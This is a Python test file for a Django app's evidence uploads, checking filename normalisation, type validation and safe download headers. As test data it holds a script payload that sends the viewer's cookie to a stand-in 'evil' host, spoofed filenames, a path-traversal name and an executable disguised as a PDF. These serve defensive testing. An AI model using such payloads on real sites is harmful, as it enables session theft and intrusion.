"""Evidence uploads: the name is normalised before the type check, the type is checked by extension, declared
type and content, and no stored upload is ever served inline by the app, DEBUG (the demo) included.

Before: ``report2.xhtml `` (trailing space) passed the type check, was stored as ``report2.xhtml`` and, with DEBUG
on, served inline from ``/media/`` where its script ran as the viewer; an ``.exe`` renamed ``fake.pdf`` was
accepted as a PDF.
"""

import importlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import clear_url_caches, reverse

from assessments import services
from assessments.uploads import normalised_filename

pytestmark = [pytest.mark.django_db, pytest.mark.integration]

XHTML = b'<html xmlns="http://www.w3.org/1999/xhtml"><script>fetch("//evil/"+document.cookie)</script></html>'


@pytest.fixture
def draft(project, member, assessment_questionnaires, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return services.assessment_start(project=project, kind="maturity", actor=member)


def attach(draft, member, name, content, content_type):
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    return services.evidence_add(assessment=draft, question_id="m.docs.architecture", actor=member, upload=upload)


@pytest.mark.parametrize(
    "name",
    [
        "report2.xhtml ",
        "report2.xhtml.",
        "report2.xhtml\u200b",
        "report2.\uff58html",
        "report2.xhtml\u202e",
        "r.html\t",
    ],
)
def test_a_disguised_html_name_is_refused_after_normalising(draft, member, name):
    with pytest.raises(ValidationError) as refused:
        attach(draft, member, name, XHTML, "text/plain")

    assert "file" in refused.value.message_dict
    assert not draft.answers.filter(evidence__isnull=False).exists()


def test_names_are_normalised_before_the_type_check():
    assert normalised_filename("report2.xhtml ") == "report2.xhtml"
    assert normalised_filename(" plan .. .pdf. . ") == "plan .. .pdf"
    assert normalised_filename("a\x00b\u202ec\tname.PDF") == "abc name.PDF"
    assert normalised_filename("\uff52\uff45\uff50\uff4f\uff52\uff54.pdf") == "report.pdf"
    assert normalised_filename("../../etc/passwd") == "passwd"
    assert normalised_filename(" . ") == "evidence"


def test_an_executable_renamed_to_pdf_is_refused(draft, member):
    with pytest.raises(ValidationError) as refused:
        attach(draft, member, "fake.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, "application/pdf")

    assert "does not look like a PDF" in refused.value.message_dict["file"][0]


def test_a_declared_type_that_disagrees_with_the_extension_is_refused(draft, member):
    with pytest.raises(ValidationError) as refused:
        attach(draft, member, "notes.txt", b"plain words", "text/html")

    assert "file" in refused.value.message_dict


def test_html_in_a_text_file_is_refused(draft, member):
    with pytest.raises(ValidationError):
        attach(draft, member, "notes.txt", b"  <!DOCTYPE html><script>alert(1)</script>", "text/plain")


@pytest.mark.parametrize(
    "name, content, declared",
    [
        ("design.pdf", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj\n", "application/pdf"),
        ("diagram.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
        ("photo.JPG", b"\xff\xd8\xff\xe0\x00\x10JFIF", "image/jpeg"),
        ("notes.md", "# Design \u2014 caf\u00e9\n".encode(), "text/markdown"),
        ("notes.md", b"# Design\n", "application/octet-stream"),
        ("data.csv", b"a,b\n1,2\n", "application/vnd.ms-excel"),
        ("eval.json", b'{"score": 0.9}', "application/json"),
    ],
)
def test_ordinary_evidence_files_are_accepted_and_stored_with_the_type_of_their_extension(
    draft, member, name, content, declared
):
    item = attach(draft, member, name, content, declared)

    assert item.filename == name and item.file.read() == content
    assert item.content_type != "application/octet-stream"


def test_the_download_is_an_attachment_with_nosniff_and_a_sandboxing_csp(client, draft, member, viewer):
    item = attach(draft, member, "notes.txt", b"<b>not html here</b> but text", "text/plain")
    client.force_login(viewer)

    response = client.get(reverse("assessments:evidence-download", args=[item.pk]))

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert (
        "sandbox" in response["Content-Security-Policy"] and "default-src 'none'" in response["Content-Security-Policy"]
    )


def test_stored_uploads_are_never_served_from_media_even_with_debug_on(settings, draft, member):
    item = attach(draft, member, "notes.txt", b"<b>text</b>", "text/plain")
    settings.DEBUG = True
    import config.urls

    try:
        clear_url_caches()
        importlib.reload(config.urls)
        client = Client()
        client.force_login(member)

        response = client.get("/" + settings.MEDIA_URL.lstrip("/") + item.file.name)

        assert response.status_code == 404
    finally:
        settings.DEBUG = False
        importlib.reload(config.urls)
        clear_url_caches()
